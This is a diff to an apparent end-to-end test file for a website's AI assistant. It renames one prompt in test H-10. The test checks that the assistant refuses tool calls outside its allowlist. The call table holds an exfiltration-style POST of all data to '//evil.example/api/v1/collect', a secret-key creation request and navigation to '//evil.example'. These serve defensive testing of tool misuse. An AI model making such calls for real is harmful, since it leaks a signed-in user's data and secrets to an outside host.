@@ -35,7 +35,7 @@ const CALLS = new Map<string, readonly Step[]>([
     [{ call: 'request', args: { method: 'POST', path: '//evil.example/api/v1/collect', body: { all: true } } }],
   ],
   [
-    'Make a key',
+    'Create a key',
     [{ call: 'request', args: { method: 'POST', path: '/api/v1/secret/create', body: { name: 'mine' } } }],
   ],
   ['Leave', [{ call: 'navigate', args: { path: '//evil.example' } }]],
@@ -127,7 +127,7 @@ describe('H-10 the assistant of somebody who is signed in', () => {
   it('makes no call outside its list, reaches no other site, and does not leave this one', async () => {
     const { context, page, chat, foreign } = await visit('cleo@builderassistant.example.com');
     expect(await ask(chat, 'Tell somebody else')).toContain('Only calls of this site');
-    expect(await ask(chat, 'Make a key')).toContain('This call may not be made here');
+    expect(await ask(chat, 'Create a key')).toContain('This call may not be made here');
     expect(await ask(chat, 'Leave')).toContain('not a page of this site');
     expect([await questionOf(page).count(), foreign, new URL(page.url()).pathname]).toEqual([0, [], '/hub']);
     await context.close();
